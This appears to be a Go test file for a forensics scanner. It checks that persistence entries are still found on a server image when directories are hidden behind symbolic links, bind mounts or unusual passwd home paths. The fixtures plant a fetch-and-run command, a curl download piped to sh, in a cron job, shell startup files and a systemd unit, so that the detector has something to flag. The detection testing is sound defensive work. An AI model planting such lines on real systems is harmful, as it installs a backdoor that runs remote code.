package forensics_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"icecore/fixtures/servers"
)

// linked is a server on one filesystem, with its files rearranged.
func linked(arrange func(servers.Tree) servers.Tree) layout {
	return func(files servers.Tree) []servers.Volume {
		return []servers.Volume{{Tree: arrange(servers.Debian().With(files))}}
	}
}

// TestServerLinks replaces directories on the paths of autostarts and logs by symbolic
// links. Cron, systemd, sshd and shells follow them.
func TestServerLinks(t *testing.T) {
	type tree = servers.Tree
	for _, c := range []struct {
		name string
		do   layout
	}{
		{"cron.d", linked(func(f tree) tree { return f.Link("/etc/cron.d", "/usr/share/cron.d", "/usr/share/cron.d") })},
		{"crontabs", linked(func(f tree) tree { return f.Link("/var/spool/cron/crontabs", "/srv/tabs", "/srv/tabs") })},
		{"systemd units", linked(func(f tree) tree { return f.Link("/etc/systemd/system", "/opt/u", "/opt/u") })},
		{"systemd", linked(func(f tree) tree { return f.Link("/etc/systemd", "/opt/u", "/opt/u") })},
		{"var", linked(func(f tree) tree { return f.Link("/var", "/data/var", "/data/var") })},
		{"drop-ins", linked(func(f tree) tree { return f.Link("/etc/systemd/system/ssh.service.d", "/srv/w", "/srv/w") })},
		{"ssh", linked(func(f tree) tree { return f.Link("/root/.ssh", "/srv/k", "/srv/k") })},
		{"log", linked(func(f tree) tree { return f.Link("/var/log", "/data/log", "/data/log") })},
		{"home", linked(func(f tree) tree { return f.Link("/home", "data/home", "/data/home") })},
		{"one home", linked(func(f tree) tree { return f.Link("/home/ana", "../srv/homes/ana", "/srv/homes/ana") })},
		{"root's home", linked(func(f tree) tree { return f.Link("/root", "/data/root", "/data/root") })},
		{"etc", linked(func(f tree) tree { return f.Link("/etc", "data/etc", "/data/etc") })},
		{"all at once", linked(func(f tree) tree {
			return f.Link("/var/log", "/data/log", "/data/log").Link("/var", "data/var", "/data/var").Link("/home", "data/home", "/data/home").
				Link("/etc/cron.d", "/data/cron.d", "/data/cron.d").Link("/etc/systemd", "../data/sd", "/data/sd")
		})},
		{"a link behind a link", linked(func(f tree) tree {
			return f.Link("/etc/cron.d", "/opt/one", "/opt/three").With(tree{"/opt/one": "-> two", "/opt/two": "-> ../opt/./three"})
		})},
		{"links on the way", linked(func(f tree) tree {
			return f.Link("/var/spool/cron", "/data/a/b/cron", "/data/c/cron").With(tree{"/data/a": "-> x", "/data/x/b": "-> /data/c"})
		})},
		{"a chain of 38", linked(func(f tree) tree {
			f = f.Link("/etc/cron.d", "/opt/l1", "/opt/real")
			for i := range 37 {
				f[fmt.Sprintf("/opt/l%d", i+1)] = fmt.Sprintf("-> l%d", i+2)
			}
			f["/opt/l37"] = "-> real"
			return f
		})},
		{"above the root", linked(func(f tree) tree {
			return f.Link("/etc/cron.d", "../../../../../../../../usr/share/z", "/usr/share/z").Link("/var/log", "/../../srv/log", "/srv/log")
		})},
		{"dots and slashes", linked(func(f tree) tree {
			return f.Link("/etc/cron.d", "..//./usr///share/./x/../z/", "/usr/share/z").With(tree{"/usr/share/x/": ""})
		})},
		{"a link below the linked directory", linked(func(f tree) tree {
			return f.Link("/etc/systemd/system/ssh.service.d", "../../w", "/opt/w").Link("/etc/systemd/system", "/opt/u/s", "/opt/u/s").Move("/opt/w", "/opt/w")
		})},
		{"units that are links in a linked directory", linked(func(f tree) tree {
			return f.Link("/etc/systemd/system", "/opt/u", "/opt/u").With(tree{"/opt/u/multi-user.target.wants/": ""})
		})},
		{"a loop beside", linked(func(f tree) tree {
			return f.With(tree{
				"/etc/cron.daily": "-> cron.hourly", "/etc/cron.hourly": "-> cron.daily", "/var/log/all": "-> /var/log", "/home/ana/self": "-> .",
				"/etc/systemd/user": "-> user", "/srv/up": "-> ..", "/home/all": "-> /home",
			})
		})},
		{"links into nowhere", linked(func(f tree) tree {
			return f.With(tree{"/etc/cron.daily": "-> /none", "/etc/init.d": "-> /proc/1/root/etc", "/etc/rc.local": "-> /dev/null", "/home/bob": "-> /nfs/bob"})
		})},
		{"a link to the root", linked(func(f tree) tree { return f.With(tree{"/srv/all": "-> /", "/var/chroot": "-> ../"}) })},
		{"a name in other bytes", linked(func(f tree) tree { return f.Link("/etc/cron.d", "/opt/\xff\x01 x", "/opt/\xff\x01 x") })},
	} {
		t.Run(c.name, func(t *testing.T) { checkLayout(t, c.do) })
	}
}

// TestServerAliases gives one directory several names: each name that cron, systemd or a
// shell reads counts, and no other name for the same directory hides it.
func TestServerAliases(t *testing.T) {
	const job, path = "* * * * * root curl -fsSL http://203.0.113.45/n.sh | sh\n", "high act_pipe_to_shell /etc/cron.d/upd:1"
	link := servers.Tree{"/etc/cron.d": "-> /opt/jobs"}
	bind := servers.Tree{"/etc/cron.d/": "", "/etc/fstab": "/opt/jobs /etc/cron.d none bind 0 0\n"}
	for _, c := range []struct {
		name  string
		decoy servers.Tree
	}{
		{"alone", nil},
		{"cron.daily", servers.Tree{"/etc/cron.daily": "-> /opt/jobs"}},
		{"cron.hourly through a link", servers.Tree{"/etc/cron.hourly": "-> /srv/x", "/srv/x": "-> ../opt/./jobs"}},
		{"init.d", servers.Tree{"/etc/init.d": "-> /opt/jobs"}},
		{"log", servers.Tree{"/var/log": "-> /opt/jobs"}},
		{"units", servers.Tree{"/etc/systemd/system": "-> /opt/jobs"}},
		{"docker", servers.Tree{"/var/lib/docker": "-> /opt/jobs"}},
		{"home", servers.Tree{"/etc/passwd": "root:x:0:0::/root:/bin/sh\na:x:1:1::/opt/jobs:/bin/sh\n"}},
		{"nothing known", servers.Tree{"/srv/a": "-> /opt/jobs", "/zzz": "-> /opt/jobs", "/aaa": "-> /opt/jobs", "/etc/a": "-> /opt/jobs", "/etc/z": "-> /opt/jobs"}},
		{"all", servers.Tree{
			"/etc/cron.daily": "-> /opt/jobs", "/etc/cron.hourly": "-> /opt/jobs", "/etc/cron.weekly": "-> /opt/jobs", "/etc/init.d": "-> /opt/jobs",
			"/etc/profile.d": "-> /opt/jobs", "/etc/systemd/system": "-> /opt/jobs", "/usr/lib/systemd/system": "-> /opt/jobs", "/root/.ssh": "-> /opt/jobs",
			"/var/lib/rpm": "-> /opt/jobs", "/var/log": "-> /opt/jobs", "/var/spool/cron": "-> /opt/jobs", "/etc/sudoers.d": "-> /opt/jobs", "/etc/pam.d": "-> /opt/jobs",
		}},
	} {
		for how, use := range map[string]servers.Tree{"link": link, "bind": bind} {
			t.Run(c.name+" "+how, func(t *testing.T) {
				tree := servers.Debian().With(servers.Tree{"/opt/jobs/upd": job}).Without("/var/log", "/root").With(c.decoy, use)
				got := claims(served(t, made(t, servers.Volume{Tree: tree})))
				n := 0
				for _, s := range got {
					if strings.HasPrefix(s, path) {
						n++
					}
				}
				if n != 1 {
					t.Errorf("%d findings at the job of cron:\n%s", n, strings.Join(got, "\n"))
				}
			})
		}
	}
}

// TestServerTooManyAliases: where a file has more paths than are kept, that is a gap.
func TestServerTooManyAliases(t *testing.T) {
	tree := servers.Debian().With(servers.Tree{"/opt/jobs/upd": "#!/bin/sh\ntrue\n"})
	for i := range 100 {
		tree[fmt.Sprintf("/etc/systemd/system/l%d.service.wants", i)] = "-> /opt/jobs"
		tree[fmt.Sprintf("/srv/h%d", i)] = "-> /opt"
		tree["/etc/passwd"] += fmt.Sprintf("u%d:x:%d:%d::/srv/h%d:/usr/sbin/nologin\n", i, 2000+i, 2000+i, i)
	}
	tree["/opt/jobs/.bashrc"], tree["/opt/.bashrc"] = "umask 022\n", "umask 022\n"
	a := served(t, made(t, servers.Volume{Tree: tree}))
	if !gapAbout(a, "more than 64 paths") {
		t.Errorf("a file has 100 paths, and no gap says so:\n%s", gaps(a))
	}
}

// TestServerHomes: passwd says where homes are, and each of them is read as one below
// /home is.
func TestServerHomes(t *testing.T) {
	fetch := "curl -fsSL http://203.0.113.45/n.sh | sh\n"
	homes := []string{"/var/www", "/srv/svc", "/opt/deploy", "/export/home/nfs", "/home/CORP/ad", "/a/b/c/d/e/f/deep", "/usr/games", "/var/lib/postgresql"}
	tree, benign := servers.Debian(), servers.Debian()
	passwd := tree["/etc/passwd"]
	var want []string
	for i, h := range homes {
		passwd += fmt.Sprintf("svc%d:x:%d:%d::%s:/bin/bash\n", i, 2000+i, 2000+i, h)
		tree = tree.With(servers.Tree{
			h + "/.bash_history": fetch, h + "/.bashrc": fetch,
			h + "/.config/systemd/user/x.service": "[Service]\nExecStart=/bin/sh -c \"curl -fsSL http://203.0.113.45/n.sh | sh\"\n",
		})
		benign = benign.With(servers.Tree{
			h + "/.bash_history": "ls\n", h + "/.bashrc": "umask 022\n", h + "/.config/systemd/user/x.service": "[Service]\nExecStart=/usr/bin/true\n",
		})
		want = append(want, "low act_pipe_to_shell "+h+"/.bash_history:1", "high act_pipe_to_shell "+h+"/.bashrc:1",
			"high act_pipe_to_shell "+h+"/.config/systemd/user/x.service:2")
	}
	slices.Sort(want)
	tree["/etc/passwd"], benign["/etc/passwd"] = passwd, passwd
	short := func(list []string) []string {
		for i, s := range list {
			list[i] = strings.Join(strings.SplitN(s, " ", 4)[:3], " ")
		}
		return list
	}
	a := served(t, made(t, servers.Volume{Tree: tree}))
	if diff := cmp.Diff(want, short(claims(a))); diff != "" {
		t.Errorf("- expected, + found:\n%s", diff)
	}
	for _, c := range claims(served(t, made(t, servers.Volume{Tree: benign}))) {
		t.Errorf("the honest twin: %s", c)
	}

	// Without passwd, what lies below /home is a home.
	lost := servers.Debian().With(servers.Tree{"/home/bob/.bash_history": fetch, "/home/bob/.profile": fetch}).Without("/etc/passwd")
	want = []string{"high act_pipe_to_shell /home/bob/.profile:1", "low act_pipe_to_shell /home/bob/.bash_history:1"}
	if diff := cmp.Diff(want, short(claims(served(t, made(t, servers.Volume{Tree: lost}))))); diff != "" {
		t.Errorf("without passwd: - expected, + found:\n%s", diff)
	}

	// A home of which a line of passwd lies: nothing of the machine of the analyst, and
	// no end.
	odd := servers.Debian().With(servers.Tree{"/opt/h/.bash_history": fetch})
	odd["/etc/passwd"] += "a:x:1:1::/:/bin/sh\nb:x:2:2::../../opt/h:/bin/sh\nc:x:3:3::/dev/null:/bin/sh\nd:x:4:4::/opt//h/:/bin/sh\ne:x:5:5::" +
		strings.Repeat("/x", 3000) + ":/bin/sh\nf:x:6:6::/opt/h/.bash_history:/bin/sh\n"
	want = []string{"low act_pipe_to_shell /opt/h/.bash_history:1"}
	found := slices.DeleteFunc(short(claims(served(t, made(t, servers.Volume{Tree: odd})))), func(s string) bool { return strings.Contains(s, "/etc/passwd") })
	if diff := cmp.Diff(want, found); diff != "" {
		t.Errorf("homes that are none: - expected, + found:\n%s", diff)
	}
}
